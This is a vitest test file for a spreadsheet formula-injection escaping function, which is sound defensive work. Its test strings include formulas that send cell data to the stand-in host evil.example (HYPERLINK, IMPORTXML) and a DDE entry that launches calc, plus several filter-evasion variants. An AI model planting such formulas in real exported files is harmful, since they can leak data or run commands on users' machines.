import { describe, expect, test } from 'vitest';
import { plainCell } from './plain-cell.ts';

describe('formula injection', () => {
  test.each([
    '=1+1',
    '+91 98765 43210',
    '-2+3',
    '@SUM(A1:A9)',
    '=HYPERLINK("https://evil.example?x="&A1,"here")',
    "=cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '|calc',
    '%0A=1',
    '\tplain',
  ])('%j is shown as it is', (text) => {
    expect(plainCell(text)).toBe(`'${text}`);
  });

  test.each(['', 'Asha', '9876543210', 'a=b', '2026-11-21', 'आशा', '(x)', 'x\n=1'])(
    '%j is left alone',
    (text) => {
      expect(plainCell(text)).toBe(text);
    },
  );
});
